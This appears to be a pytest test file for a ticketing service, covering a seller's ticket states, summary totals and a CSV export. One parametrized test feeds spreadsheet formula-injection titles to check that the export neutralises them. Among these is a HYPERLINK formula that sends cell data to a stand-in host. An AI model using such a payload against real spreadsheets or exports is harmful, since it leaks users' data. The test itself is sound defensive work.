"""A seller's own tickets: their states, sums and export."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from ticketing_common.currency import CURRENCIES, USD
from ticketing_common.events import OrderCancelled, OrderCompleted, OrderCreated, OrderState
from ticketing_common.mongo import new_id
from ticketing_test_support.samples import order_event
from ticketing_test_support.sessions import cookie_for
from ticketing_tickets import use_cases
from ticketing_tickets.domain import Ticket
from ticketing_tickets.export import csv_of

SELLER_ID = new_id()
SELLER = cookie_for(SELLER_ID)
OTHER_USER = cookie_for()
EXPIRES_AT = datetime(2026, 3, 1, 12, 15, tzinfo=UTC)
STATES = ("on_sale", "reserved", "sold", "withdrawn")


async def on_sale(client: httpx.AsyncClient, title: str, price: float) -> str:
    response = await client.post("/api/tickets", json={"title": title, "price": price}, headers=SELLER)
    return str(response.json()["id"])


async def apply(app: FastAPI, kind: type[OrderState], ticket_id: str, version: int = 0) -> None:
    order = order_event(kind, id="a" * 24, ticket_id=ticket_id, version=version, expires_at=EXPIRES_AT)
    await use_cases.apply_order(app.state.store, order)


@pytest.fixture
async def tickets(client: httpx.AsyncClient, app: FastAPI) -> dict[str, str]:
    """A ticket's id by its state; their prices are 1, 2, 4 and 8 dollars and a cent each."""
    ids = {state: await on_sale(client, f"Ticket {state}", 2**n + 0.01) for n, state in enumerate(STATES)}
    await apply(app, OrderCreated, ids["reserved"])
    for version, kind in enumerate((OrderCreated, OrderCompleted)):
        await apply(app, kind, ids["sold"], version)
    # An order that was placed before the withdrawal was known, and that ended unpaid.
    await client.delete(f"/api/tickets/{ids['withdrawn']}", headers=SELLER)
    for version, kind in enumerate((OrderCreated, OrderCancelled)):
        await apply(app, kind, ids["withdrawn"], version)
    return ids


async def listed(client: httpx.AsyncClient, query: str) -> list[dict[str, Any]]:
    response = await client.get(f"/api/tickets?seller=me{query}", headers=SELLER)
    assert response.status_code == 200, response.text
    found: list[dict[str, Any]] = response.json()
    return found


async def test_own_tickets_have_their_state(client: httpx.AsyncClient, tickets: dict[str, str]) -> None:
    own = await listed(client, "")
    assert {ticket["state"]: ticket["id"] for ticket in own} == tickets
    assert {ticket["state"]: ticket.get("reservedUntil") for ticket in own} == {
        **dict.fromkeys(STATES),
        "reserved": "2026-03-01T12:15:00Z",
    }


@pytest.mark.parametrize("state", STATES)
async def test_own_tickets_in_one_state(client: httpx.AsyncClient, tickets: dict[str, str], state: str) -> None:
    assert [ticket["id"] for ticket in await listed(client, f"&state={state}")] == [tickets[state]]


async def test_links_keep_the_state(client: httpx.AsyncClient) -> None:
    ids = [await on_sale(client, "Front row", 1) for _ in range(3)]
    await client.delete(f"/api/tickets/{ids[1]}", headers=SELLER)
    page = await client.get("/api/tickets?seller=me&state=on_sale&limit=1", headers=SELLER)
    following = await client.get(page.links["next"]["url"], headers=SELLER)
    assert [ticket["id"] for ticket in (*page.json(), *following.json())] == [ids[2], ids[0]]
    assert "Link" not in following.headers


@pytest.mark.parametrize("query", ["state=on_sale", "seller=me&state=free", "seller=me&state="])
async def test_invalid_state_is_named(client: httpx.AsyncClient, query: str) -> None:
    response = await client.get(f"/api/tickets?{query}", headers=SELLER)
    assert response.status_code == 400
    assert [error["field"] for error in response.json()["errors"]] == ["state"]


async def test_public_tickets_do_not_have_a_state(client: httpx.AsyncClient, tickets: dict[str, str]) -> None:
    [ticket] = (await client.get("/api/tickets")).json()
    assert ticket.keys() == {"id", "title", "price", "userId", "version"}


async def test_summary_has_the_sums_of_each_state(client: httpx.AsyncClient, tickets: dict[str, str]) -> None:
    response = await client.get("/api/tickets/summary", headers=SELLER)
    assert response.json() == {
        "listed": {"count": 4, "amount": 15.04},
        "onSale": {"count": 1, "amount": 1.01},
        "reserved": {"count": 1, "amount": 2.01},
        "sold": {"count": 1, "amount": 4.01},
        "withdrawn": {"count": 1, "amount": 8.01},
    }


async def test_sums_and_export_are_of_ones_own_tickets(client: httpx.AsyncClient, tickets: dict[str, str]) -> None:
    summary = (await client.get("/api/tickets/summary", headers=OTHER_USER)).json()
    assert all(total == {"count": 0, "amount": 0} for total in summary.values())
    assert len(rows((await client.get("/api/tickets/export", headers=OTHER_USER)).text)) == 1


@pytest.mark.parametrize("path", ["summary", "export"])
async def test_sums_and_export_need_a_session(client: httpx.AsyncClient, path: str) -> None:
    assert (await client.get(f"/api/tickets/{path}")).status_code == 401


async def test_export_is_a_file_for_spreadsheets(client: httpx.AsyncClient, tickets: dict[str, str]) -> None:
    response = await client.get("/api/tickets/export", headers=SELLER)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="tickets.csv"'
    assert response.content.startswith(b"\xef\xbb\xbfTicket,Title,Price,Currency,State,Reserved until,Listed at\r\n")
    exported = {row["State"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert exported.keys() == set(STATES)
    assert [(row["Price"], row["Currency"]) for row in exported.values()][-1] == ("1.01", "USD")
    assert exported["reserved"]["Reserved until"] == "2026-03-01T12:15:00Z"


@pytest.mark.parametrize(
    "title",
    ["=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://e.example/?"&A1,"x")', "\uff1d1", "\uff201"],
)
async def test_title_is_never_a_formula(client: httpx.AsyncClient, title: str) -> None:
    await on_sale(client, title, 1)
    [_, row] = rows((await client.get("/api/tickets/export", headers=SELLER)).text)
    assert row[1] == f"'{title}"


@pytest.mark.parametrize("title", ["Row A, seat 1", 'The "Ring"', "1-2", "O=O", "'tis", "Käse 🎭", "a\u200fb"])
async def test_title_is_exported_as_it_is(client: httpx.AsyncClient, title: str) -> None:
    await on_sale(client, title, 1)
    [_, row] = rows((await client.get("/api/tickets/export", headers=SELLER)).text)
    assert row[1] == title


def ticket(price: int = 100, title: str = "Front row") -> Ticket:
    return Ticket(id=new_id(), title=title, price=price, user_id=SELLER_ID, created_at=EXPIRES_AT)


async def batches(*batches: Sequence[Ticket]) -> AsyncIterator[Sequence[Ticket]]:
    for batch in batches:
        yield batch


@pytest.mark.parametrize(("price", "currency", "cell"), [(99_999_999, "usd", "999999.99"), (5000, "jpy", "5000")])
async def test_price_is_a_number_for_spreadsheets(price: int, currency: str, cell: str) -> None:
    text = "".join([piece async for piece in csv_of(batches([ticket(price)]), CURRENCIES[currency])])
    assert rows(text)[1][2] == cell


@pytest.mark.parametrize("control", ["\t", "\r", "\n", "\0"])
async def test_control_character_starts_no_formula(control: str) -> None:
    """No title has one any more; this is about those of other releases."""
    text = "".join([piece async for piece in csv_of(batches([ticket(title=f"{control}=1")]), USD)])
    assert rows(text)[1][1] == f"'{control}=1"


async def test_export_reads_a_batch_when_the_one_before_was_sent() -> None:
    read = 0

    async def endless() -> AsyncIterator[Sequence[Ticket]]:
        nonlocal read
        while True:
            read += 1
            yield [ticket()]

    pieces = csv_of(endless(), USD)
    for sent in range(5):
        await anext(pieces)
        assert read == sent


async def test_all_tickets_are_exported_in_batches(
    client: httpx.AsyncClient, app: FastAPI, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(use_cases, "BATCH", 2)
    ids = [await on_sale(client, "Front row", 1) for _ in range(5)]
    found = [batch async for batch in use_cases.all_tickets_of(app.state.store, SELLER_ID)]
    assert [[ticket.id for ticket in batch] for batch in found] == [ids[:2:-1], ids[2:0:-1], ids[:1]]


def rows(text: str) -> list[list[str]]:
    """The file's rows, its header first."""
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
